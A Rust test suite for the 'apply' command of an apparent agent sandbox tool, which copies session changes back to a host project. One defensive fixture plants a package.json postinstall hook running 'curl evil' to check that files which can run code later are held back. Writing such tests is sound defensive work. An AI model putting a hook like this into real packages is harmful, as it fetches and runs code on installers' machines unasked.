//! `apply` applies the requested changes and no others.

use testkit::World;

use super::{change, start, tree};

#[test]
fn apply_takes_everything_and_then_nothing_is_left() {
    let world = World::new().file("project/a", "1\n").file("project/d/x", "x\n");
    change(
        &world,
        "echo 2 >> a; rm -r d; mkdir n; echo n > n/n; ln -s a l; echo '#!/bin/sh' > run; chmod +x run",
    );
    let before = tree(&world, "project");
    world.run(["apply", "--dry-run"]).succeeds().stdout_contains("M a\n");
    assert_eq!(tree(&world, "project"), before);
    world.run(["apply"]).succeeds().stderr_contains("agent-sandbox undo");
    assert_eq!(world.read("project/a"), "1\n2\n");
    assert_eq!(world.read("project/n/n"), "n\n");
    assert!(!world.has("project/d"));
    world.host(["test", "-x", "run"]).succeeds();
    world.run(["diff", "--name-only"]).succeeds().stdout("");
    change(&world, "cat a; test ! -e d; echo 3 >> a").stdout("1\n2\n");
    world.run(["diff"]).succeeds().stdout_contains("+3");
    world.run(["apply"]).succeeds();
    assert_eq!(world.read("project/a"), "1\n2\n3\n");
}

#[test]
fn apply_takes_only_the_paths_that_are_named() {
    let world = World::new().dir("project/sub");
    change(
        &world,
        "echo a > a; echo b > b; mkdir -p new/deep; echo c > new/deep/c; echo d > new/d; echo s > sub/s",
    );
    world.run(["apply", "a", "new/deep"]).succeeds();
    assert!(world.has("project/a") && world.has("project/new/deep/c"));
    assert!(!world.has("project/b") && !world.has("project/new/d"));
    world.clone().cwd("project/sub").run(["apply", "s"]).succeeds();
    assert!(world.has("project/sub/s"));
    world.run(["apply", "-s", "s", "/etc"]).code(2);
}

#[test]
fn files_that_run_code_later_wait_until_they_are_named() {
    let world = World::new();
    change(
        &world,
        "mkdir -p .vscode .github/workflows; echo x > .envrc; echo x > .vscode/tasks.json; echo x > plain; \
         echo x > .github/workflows/ci.yml; echo '{\"name\":\"x\"}' > package.json",
    );
    let run = world.run(["apply"]).succeeds();
    for held in [".envrc", ".vscode/tasks.json", ".github/workflows/ci.yml"] {
        assert!(run.messages().contains(held), "{held}\n{run}");
        assert!(!world.has(format!("project/{held}")), "{held}");
    }
    assert!(world.has("project/plain"));
    assert!(world.has("project/package.json"), "nothing in it runs");
    world.run(["apply", ".", ".envrc"]).succeeds();
    assert!(world.has("project/.envrc") && !world.has("project/.vscode/tasks.json"));
    world.run(["apply", ".vscode"]).succeeds();
    assert!(world.has("project/.vscode/tasks.json"));
}

#[test]
fn a_package_with_install_scripts_waits() {
    let world = World::new();
    change(&world, r#"echo '{"scripts":{"postinstall":"curl evil"}}' > package.json"#);
    world.run(["apply"]).succeeds().stderr_contains("package.json");
    assert!(!world.has("project/package.json"));
}

#[test]
fn many_deletions_are_asked_about() {
    let world = World::new();
    for number in 0..120 {
        world.write(format!("project/many/{number}"), "x");
    }
    change(&world, "rm -r many");
    world.run(["apply"]).code(1).stderr_contains("delete 120 files").stderr_contains("--yes");
    assert!(world.has("project/many/7"));
    let mut terminal = world.terminal(["apply"]);
    terminal.wait_for("[y/N]");
    terminal.enter("n");
    terminal.wait().code(1);
    assert!(world.has("project/many/7"));
    world.run(["apply", "--yes"]).succeeds();
    assert!(!world.has("project/many"));
}

#[test]
fn most_of_a_small_tree_is_asked_about_too() {
    let world = World::new();
    for number in 0..20 {
        world.write(format!("project/{number}"), "x");
    }
    change(&world, "rm 1*");
    world.run(["apply"]).code(1).stderr_contains("11 files");
    change(&world, "for i in 10 11 12 13 14 15; do echo x > $i; done");
    world.run(["apply"]).succeeds();
}

#[test]
fn a_running_session_is_not_applied() {
    let world = World::new();
    let mut running = start(&world, "s", "echo x > a; echo ready; read line");
    running.wait_for("ready");
    world.run(["diff", "--name-only", "s"]).succeeds().stdout("a\n");
    world.run(["apply", "-s", "s"]).code(1).stderr_contains("running");
    world.run(["discard", "-s", "s", "--yes"]).code(1);
    assert!(!world.has("project/a"));
    running.send("\n");
    running.wait().succeeds();
    world.run(["apply", "-s", "s"]).succeeds();
    assert!(world.has("project/a"));
}

#[test]
fn apply_speaks_json() {
    let world = World::new().file("project/a", "1\n");
    change(&world, "echo 2 > a; echo x > .envrc");
    let run = world.run(["apply", "--dry-run", "--json"]).succeeds();
    let json: serde_json::Value = serde_json::from_str(&run.output()).unwrap();
    assert_eq!(json["steps"][0]["path"], "a");
    assert_eq!(json["steps"][0]["action"], "modify");
    assert_eq!(json["held"][0]["path"], ".envrc");
}

#[test]
fn a_running_session_is_held_still_and_applied_when_that_is_asked_for() {
    let world = World::new().file("project/a", "1\n").file("project/d/x", "x\n");
    let script = "echo 2 > a; rm -r d; mkdir n; echo n > n/n; echo ready; read line; cat a n/n; ls; echo 3 > a; echo m > n/m";
    let mut running = start(&world, "s", script);
    running.wait_for("ready");
    world.run(["apply", "-s", "s", "--live"]).succeeds();
    assert_eq!(world.read("project/a"), "2\n");
    assert_eq!(world.read("project/n/n"), "n\n");
    assert!(!world.has("project/d"));
    world.run(["diff", "s", "--name-only"]).succeeds().stdout("");
    running.send("\n");
    let run = running.wait().succeeds();
    assert!(run.output().contains("2\nn\na\nn\n"), "{run}");
    world.run(["diff", "s", "--name-only"]).succeeds().stdout("a\nn/m\n");
    world.run(["apply", "-s", "s"]).succeeds();
    assert_eq!(world.read("project/a"), "3\n");
}

#[test]
fn a_commit_is_applied_with_everything_that_belongs_to_it() {
    let world = World::new().file("project/a", "1\n").git_init("project");
    change(&world, "echo 2 >> a; echo n > n; git add -A; git commit -qm inside");
    world.host(["git", "log", "-1", "--format=%s"]).succeeds().stdout("start\n");
    let run = world.run(["apply"]).succeeds();
    assert!(!run.messages().contains("held"), "{run}");
    world.host(["git", "log", "-1", "--format=%s"]).succeeds().stdout("inside\n");
    world.host(["git", "status", "--porcelain"]).succeeds().stdout("");
    world.host(["git", "fsck", "--strict"]).succeeds();
    // Git refreshed the index when it was asked for the status. That is not a change.
    world.run(["undo"]).succeeds();
    world.host(["git", "log", "-1", "--format=%s"]).succeeds().stdout("start\n");
}

#[test]
fn an_index_that_the_host_refreshed_holds_nothing_back() {
    let world = World::new().file("project/a", "1\n").git_init("project");
    change(&world, "echo 2 >> a; git commit -qam inside");
    world.host(["sh", "-c", "sleep 1; touch a; git status --porcelain"]).succeeds().stdout("");
    world.run(["apply"]).succeeds();
    assert_eq!(world.read("project/a"), "1\n2\n");
    world.host(["git", "log", "-1", "--format=%s"]).succeeds().stdout("inside\n");
    world.host(["git", "status", "--porcelain"]).succeeds().stdout("");
    // The control: what the host staged since is kept, also when the index is named.
    change(&world, "echo 3 >> a; git commit -qam more");
    world.host(["sh", "-c", "echo h > h; git add h"]).succeeds();
    world.run(["apply", ".git/index"]).succeeds().stderr_contains("git reset");
    world.host(["git", "diff", "--cached", "--name-only"]).succeeds().stdout("a\nh\n");
    world.host(["git", "log", "-1", "--format=%s"]).succeeds().stdout("more\n");
}

#[test]
fn new_files_and_directories_stay_as_closed_as_the_session_made_them() {
    let world = World::new().file("project/old", "1\n");
    change(
        &world,
        "umask 022; echo 1 > key; chmod 600 key; mkdir private; chmod 700 private; echo 1 > private/x; \
         echo 1 > tool; chmod 750 tool; umask 000; echo 1 > open; mkdir all; echo 2 > old; chmod 600 old",
    );
    world
        .host(["sh", "-c", "umask 022; exec \"$0\" apply", &world.binary().display().to_string()])
        .succeeds();
    let modes = world.host([
        "stat",
        "-c",
        "%n %a",
        "key",
        "private",
        "private/x",
        "tool",
        "open",
        "all",
        "old",
    ]);
    // A new file is never more accessible than the user's umask allows. An existing file keeps its mode.
    modes.stdout("key 600\nprivate 700\nprivate/x 644\ntool 750\nopen 644\nall 755\nold 644\n");
    world.run(["undo"]).succeeds();
    assert!(!world.has("project/private"));
}

#[test]
fn a_hard_link_of_the_host_that_ends_is_told() {
    let world = World::new().file("project/a", "1\n").file("project/single", "1\n");
    world.host(["ln", "a", "b"]).succeeds();
    change(&world, "echo 2 > a; echo 2 > single");
    let run = world.run(["apply", "--dry-run"]).succeeds();
    assert!(run.messages().contains("note: a  is hard-linked on the host"), "{run}");
    assert!(!run.messages().contains("single"), "{run}");
    world.run(["apply"]).succeeds().stderr_contains("1 other name keeps the old content");
    assert_eq!(world.read("project/a"), "2\n");
    assert_eq!(world.read("project/b"), "1\n");
}

#[test]
fn a_live_apply_is_not_told_as_a_change_of_the_host() {
    let world = World::new().file("project/a", "1\n").file("project/d/x", "1\n");
    let script = "echo 2 > a; rm d/x; mkdir n; echo n > n/n; echo ready; read line; echo 3 > later";
    let mut running = start(&world, "s", script);
    running.wait_for("ready");
    world.run(["apply", "--live", "-s", "s"]).succeeds();
    running.send("\n");
    let run = running.wait().succeeds();
    assert!(!run.messages().contains("on the host"), "{run}");
    // The control: a change by the host is reported.
    let mut running = start(&world, "s", "echo 3 > a; echo ready; read line");
    running.wait_for("ready");
    world.run(["apply", "--live", "-s", "s"]).succeeds();
    world.write("project/a", "host\n");
    running.send("\n");
    running.wait().succeeds().stderr_contains("changed on the host meanwhile");
}

#[cfg(feature = "setup")]
#[test]
fn a_deep_tree_is_applied_in_steps_that_do_not_grow_with_its_depth() {
    for engine in ["overlay", "agentfs"] {
        deep_tree(engine);
    }
}

fn deep_tree(engine: &str) {
    const DEEP: usize = 700;
    let world = World::new();
    let script = "i=0; while [ $i -lt 700 ]; do mkdir d; cd d; echo $i > f; i=$((i+1)); done";
    let session = world.clone().without_env("AGENT_SANDBOX_MOUNTS");
    let cow = format!("--cow={engine}");
    session.spawn([&cow, "--session", "s", "sh", "-ec", script]).wait().succeeds();
    let strace = testkit::need("strace").display().to_string();
    let (log, binary) =
        (world.path("calls").display().to_string(), world.binary().display().to_string());
    let run = world.host([&strace, "-f", "-c", "-o", &log, &binary, "apply"]);
    run.succeeds();
    let counts = world.read("calls");
    let total = counts.lines().find(|line| line.ends_with("total")).unwrap_or_default();
    let calls: usize =
        total.split_whitespace().nth(3).and_then(|word| word.parse().ok()).unwrap_or(usize::MAX);
    // A few dozen bytes for each file and directory.
    assert!(calls < DEEP * 2 * 100, "{engine}: {calls} calls\n{counts}");
    world.run(["diff", "--name-only"]).succeeds().stdout("");
    world.run(["undo"]).succeeds();
    assert!(!world.has("project/d"), "{engine}");
}
